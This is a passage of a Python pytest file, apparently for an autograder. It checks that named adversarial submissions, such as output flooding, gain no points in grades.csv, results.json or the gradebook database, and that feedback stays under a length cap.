        assert batch.leftovers == []
    if a.name in ("flood_output", "huge_error_message"):
        for name, t in text.items():
            assert len(t) <= MAX_FEEDBACK_CHARS, name


@pytest.mark.parametrize("a", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_gains_nothing(batch, a: Attack):
    if not a.graded:
        assert a.name not in batch.csv and not (batch.out / a.name).exists()
        return
    assert a.name in batch.csv, f"{a.name} missing from grades.csv"
    row = batch.csv[a.name]
    tests = {t["name"]: t for t in batch.results(a.name)["tests"]}
    observed = {ex: float(row[ex]) for ex in EXERCISES}
    wrong = []
    for ex in EXERCISES:
        want = a.expected(ex)
        allowed = {want, EXERCISES[ex].points} if ex in a.maybe else {want}
        if observed[ex] not in allowed or tests[ex]["score"] not in allowed:
            wrong.append(f"{ex}: expected {sorted(allowed)}, csv {observed[ex]}, results.json "
                         f"{tests[ex]['score']} ({tests[ex]['output'][:300]!r})")
    assert not wrong, f"{a.name} ({a.what}):\n" + "\n".join(wrong)
    total = sum(observed.values())
    assert float(row["total"]) == pytest.approx(total)
    if a.status:
        zeroed = ACTIVATIONS if a.zero == "all" else a.zero
        with sqlite3.connect(f"file:{batch.out / 'gradebook.sqlite'}?mode=ro", uri=True) as db:
            statuses = dict(db.execute("SELECT exercise, status FROM exercise_results WHERE student = ?",
                                       (a.name,)).fetchall())
        assert {ex: statuses[ex] for ex in zeroed} == {ex: a.status for ex in zeroed}
    _extra_checks(batch, a)
